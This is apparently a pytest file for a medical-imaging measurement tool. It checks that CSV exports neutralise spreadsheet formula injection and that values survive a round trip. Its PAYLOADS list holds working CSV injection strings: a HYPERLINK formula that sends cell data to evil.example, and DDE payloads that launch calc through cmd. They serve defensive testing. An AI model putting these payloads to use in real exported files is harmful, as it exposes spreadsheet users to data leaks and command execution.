"""Spreadsheet formulas never leave in a text cell (issue 21, item 11).

data-transfer.md §Files: a text cell beginning with = + - @ tab or CR is written with one
leading apostrophe; readers remove exactly one such apostrophe; numbers are never
prefixed.
"""

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from mrecist_reader.cli import main
from mrecist_reader.core.model import Read, ReadKey
from mrecist_reader.resources import load_profile
from mrecist_reader.transfer.columns import NUMERIC_COLUMNS
from mrecist_reader.transfer.csv_in import read_measurements
from mrecist_reader.transfer.csv_out import write_measurements
from mrecist_reader.transfer.spreadsheet import FORMULA_STARTS, neutralise, restore
from tests.storage.samples import sample_read

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)


def hostile_read(payload: str) -> Read:
    """Return the sample read with a payload in every free-text and ID cell."""
    read = sample_read()
    one_line = payload.replace("\t", "").replace("\r", "")
    key = ReadKey(read.key.study_id, one_line, one_line, read.key.read_type)
    return replace(
        read,
        key=key,
        site_id=one_line,
        lesions=tuple(replace(lesion, location=payload) for lesion in read.lesions),
        observations=tuple(replace(obs, comment=payload) for obs in read.observations),
    )


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def assert_no_live_formula(path: Path) -> None:
    rows = cells(path)
    assert rows
    for row in rows:
        for column, value in row.items():
            if column not in NUMERIC_COLUMNS:
                assert not value.startswith(FORMULA_STARTS), (column, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_text_cell_is_written_as_text(payload, tmp_path):
    path = tmp_path / "measurements.csv"
    write_measurements(path, [hostile_read(payload)])
    assert_no_live_formula(path)
    row = cells(path)[0]
    assert row["location"] == neutralise(payload)
    assert row["p1_x_mm"] == "-12.50"  # a negative number is not prefixed


@pytest.mark.parametrize("payload", PAYLOADS[:-1])
def test_a_neutralised_file_reads_back_the_same_values(payload, tmp_path):
    path = tmp_path / "measurements.csv"
    read = hostile_read(payload)
    write_measurements(path, [read])
    (back,) = read_measurements(path, profile_for=load_profile)
    assert back == read


def test_exactly_one_apostrophe_is_removed_before_a_formula_character():
    assert restore("'=1+1") == "=1+1"
    assert restore("''=1+1") == "''=1+1"
    assert restore("'plain") == "'plain"
    assert neutralise("12.5") == "12.5"


def test_import_then_export_of_a_neutralised_file_is_unchanged(tmp_path):
    source = tmp_path / "in.csv"
    write_measurements(source, [hostile_read(p) for p in PAYLOADS[:2]])
    db = f"sqlite:///{tmp_path / 'reads.db'}"
    assert main(["import", str(source), "--db", db]) == 0
    assert main(["export", "--db", db, "-o", str(tmp_path / "out")]) == 0
    exported = tmp_path / "out" / "measurements.csv"
    assert_no_live_formula(exported)
    assert_no_live_formula(tmp_path / "out" / "responses.csv")

    def without_version(path: Path) -> list[dict[str, str]]:
        return [
            {k: v for k, v in r.items() if k != "software_version"} for r in cells(path)
        ]

    assert without_version(exported) == without_version(source)


def test_assess_writes_no_live_formula(tmp_path, capsys):
    source = tmp_path / "in.csv"
    write_measurements(source, [hostile_read(PAYLOADS[0])])
    out = tmp_path / "responses.csv"
    assert main(["assess", str(source), "-o", str(out)]) == 0
    assert_no_live_formula(out)
    capsys.readouterr()
    assert main(["assess", str(source)]) == 0
    stdout = capsys.readouterr().out
    (row, *_) = list(csv.DictReader(io.StringIO(stdout)))
    assert row["subject_id"] == neutralise(PAYLOADS[0])


def test_endpoint_tables_are_written_as_safely_as_the_reads(tmp_path: Path) -> None:
    from mrecist_reader.transfer.endpoints_out import write_table

    path = tmp_path / "endpoint_subjects.csv"
    rows = [{"subject_id": "=HYPERLINK(1)", "reason": "a\rb", "study_day": "-3"}]
    write_table(path, ["subject_id", "reason", "study_day"], rows)
    text = path.read_bytes().decode("utf-8")
    assert text == 'subject_id,reason,study_day\n\'=HYPERLINK(1),"a\rb",-3\n'
